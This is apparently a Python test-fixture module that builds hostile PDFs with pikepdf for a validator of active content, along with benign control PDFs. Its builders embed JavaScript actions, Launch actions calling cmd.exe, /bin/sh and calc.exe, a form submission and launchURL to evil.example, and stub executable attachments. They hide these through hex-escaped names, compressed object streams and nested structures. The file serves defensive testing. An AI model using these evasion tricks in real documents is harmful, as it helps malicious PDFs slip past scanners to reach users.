"""A corpus of hostile PDFs, built with pikepdf at test time, and benign ones that must pass.

Each hostile case names the kind of active content the validator must report
(``evidence.validation.pdf_active_content``); many hide it where a check of top-level
objects does not look: inline dictionaries, arrays of arrays, an action's /Next chain,
object streams with a compressed cross-reference table, names written with ``#`` escapes.
"""

from __future__ import annotations

import functools
import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _doc(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _js(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary, *, indirect: bool = False) -> bytes:
    annotation = Dictionary({"/Type": Name.Annot, "/Rect": Array([10, 10, 200, 40]), **dict(annotation.items())})
    page = pdf.pages[0].obj
    page.Annots = Array([pdf.make_indirect(annotation) if indirect else annotation])
    return _saved(pdf)


def _link(action: Dictionary, *, indirect: bool = False) -> bytes:
    pdf = _doc()
    return _annotate(pdf, Dictionary(Subtype=Name.Link, A=action), indirect=indirect)


def open_action_js_indirect() -> bytes:
    pdf = _doc()
    pdf.Root.OpenAction = pdf.make_indirect(_js())
    return _saved(pdf)


def open_action_js_inline() -> bytes:
    pdf = _doc()
    pdf.Root.OpenAction = _js()
    return _saved(pdf)


def names_javascript_tree() -> bytes:
    pdf = _doc()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _js()])))
    return _saved(pdf)


def page_additional_action_inline() -> bytes:
    pdf = _doc()
    pdf.pages[0].obj.AA = Dictionary(O=_js())
    return _saved(pdf)


def catalog_additional_action() -> bytes:
    pdf = _doc()
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    return _saved(pdf)


def link_launch_inline() -> bytes:
    return _link(Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))))


def link_launch_indirect_annotation() -> bytes:
    return _link(Dictionary(S=Name.Launch, F=String("/bin/sh")), indirect=True)


def link_submit_form() -> bytes:
    return _link(Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/"))))


def link_import_data() -> bytes:
    return _link(Dictionary(S=Name.ImportData, F=String("data.fdf")))


def link_goto_remote() -> bytes:
    return _link(Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])))


def link_goto_embedded() -> bytes:
    return _link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x.pdf"))))


def link_next_chain_js() -> bytes:
    # A harmless /URI whose /Next array carries the script, two levels down.
    uri = Dictionary(S=Name.URI, URI=String("https://example.com/"))
    uri.Next = Array([Dictionary(S=Name.URI, URI=String("https://example.com/2"), Next=_js())])
    return _link(uri)


def nested_arrays_js() -> bytes:
    pdf = _doc()
    pdf.pages[0].obj.PieceInfo = Dictionary(Fasu=Dictionary(Private=Array([Array([Array([_js()])])])))
    return _saved(pdf)


def js_code_in_a_stream() -> bytes:
    pdf = _doc()
    code = pikepdf.Stream(pdf, b"app.launchURL('https://evil.example/');")
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=code)
    return _saved(pdf)


def attachments_name_tree() -> bytes:
    pdf = _doc()
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload")
    return _saved(pdf)


def file_attachment_annotation() -> bytes:
    pdf = _doc()
    embedded = pikepdf.Stream(pdf, b"MZ payload")
    embedded.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=embedded))
    return _annotate(pdf, Dictionary(Subtype=Name.FileAttachment, FS=spec))


def rich_media_annotation() -> bytes:
    pdf = _doc()
    return _annotate(pdf, Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary())))


def screen_rendition() -> bytes:
    pdf = _doc()
    return _annotate(pdf, Dictionary(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=1)))


def xfa_form() -> bytes:
    pdf = _doc()
    xfa = pikepdf.Stream(pdf, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _saved(pdf)


def form_field_keystroke_js() -> bytes:
    pdf = _doc()
    field = Dictionary(
        FT=Name.Tx,
        T=String("amount"),
        Subtype=Name.Widget,
        Rect=Array([10, 10, 200, 40]),
        P=pdf.pages[0].obj,
        AA=Dictionary(K=_js("event.value = 1")),
    )
    field = pdf.make_indirect(field)
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _saved(pdf)


def outline_js() -> bytes:
    pdf = _doc()
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("第一页", 0))
    first = pdf.Root.Outlines.First
    del first["/Dest"]
    first.A = _js()
    return _saved(pdf)


def object_streams_compressed_xref() -> bytes:
    # The action sits in an object stream, found only through a compressed xref stream.
    pdf = _doc()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.Launch, F=String("calc.exe")))
    pdf.pages[0].obj.AA = Dictionary(C=pdf.make_indirect(_js()))
    data = _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"/JavaScript" not in data and b"/Launch" not in data  # really compressed away
    return data


def hex_escaped_names() -> bytes:
    # /J#61vaScript and /#4as are /JavaScript and /JS to a reader; the raw bytes hold neither.
    pdf = _doc()
    pdf.Root.OpenAction = _js()
    data = _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4aS ")
    assert b"/JavaScript" not in data
    return data


def owner_password_with_js() -> bytes:
    pdf = _doc()
    pdf.Root.OpenAction = _js()
    return _saved(pdf, encryption=pikepdf.Encryption(owner="owner", user="", R=6))


def orphan_launch_in_trailer() -> bytes:
    # An extra key of the trailer (no reader should look there, but the validator does).
    pdf = _doc()
    pdf.trailer.Fasu = Dictionary(A=Dictionary(S=Name.Launch, F=String("calc.exe")))
    return _saved(pdf)


# name -> (builder, the kind the validator must name)
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "open_action_js_indirect": (open_action_js_indirect, "javascript"),
    "open_action_js_inline": (open_action_js_inline, "javascript"),
    "names_javascript_tree": (names_javascript_tree, "javascript"),
    "page_additional_action_inline": (page_additional_action_inline, "automatic"),
    "catalog_additional_action": (catalog_additional_action, "automatic"),
    "link_launch_inline": (link_launch_inline, "launch"),
    "link_launch_indirect_annotation": (link_launch_indirect_annotation, "launch"),
    "link_submit_form": (link_submit_form, "submit"),
    "link_import_data": (link_import_data, "import"),
    "link_goto_remote": (link_goto_remote, "remote"),
    "link_goto_embedded": (link_goto_embedded, "remote"),
    "link_next_chain_js": (link_next_chain_js, "javascript"),
    "nested_arrays_js": (nested_arrays_js, "javascript"),
    "js_code_in_a_stream": (js_code_in_a_stream, "javascript"),
    "attachments_name_tree": (attachments_name_tree, "attachment"),
    "file_attachment_annotation": (file_attachment_annotation, "attachment"),
    "rich_media_annotation": (rich_media_annotation, "media"),
    "screen_rendition": (screen_rendition, "media"),
    "xfa_form": (xfa_form, "xfa"),
    "form_field_keystroke_js": (form_field_keystroke_js, "javascript"),
    "outline_js": (outline_js, "javascript"),
    "object_streams_compressed_xref": (object_streams_compressed_xref, "launch"),
    "hex_escaped_names": (hex_escaped_names, "javascript"),
    "owner_password_with_js": (owner_password_with_js, "javascript"),
    "orphan_launch_in_trailer": (orphan_launch_in_trailer, "launch"),
}


def benign_link_and_goto() -> bytes:
    pdf = _doc(2)
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    page = pdf.pages[0].obj
    page.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 9, 9]),
                A=Dictionary(S=Name.URI, URI=String("https://wenshu.court.gov.cn/")),
            ),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 9, 9, 18]),
                A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])),
            ),
        ]
    )
    return _saved(pdf)


def benign_form_without_actions() -> bytes:
    pdf = _doc()
    field = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("name"), V=String("张三"), Subtype=Name.Widget, Type=Name.Annot,
                   Rect=Array([10, 10, 200, 40]), P=pdf.pages[0].obj)
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
    return _saved(pdf)


def benign_outline_and_object_streams() -> bytes:
    pdf = _doc(2)
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("第二页", 1))
    return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


BENIGN: dict[str, Callable[[], bytes]] = {
    "link_and_goto": benign_link_and_goto,
    "form_without_actions": benign_form_without_actions,
    "outline_and_object_streams": benign_outline_and_object_streams,
}


@functools.cache
def hostile(name: str) -> bytes:
    return HOSTILE[name][0]()


@functools.cache
def benign(name: str) -> bytes:
    return BENIGN[name]()
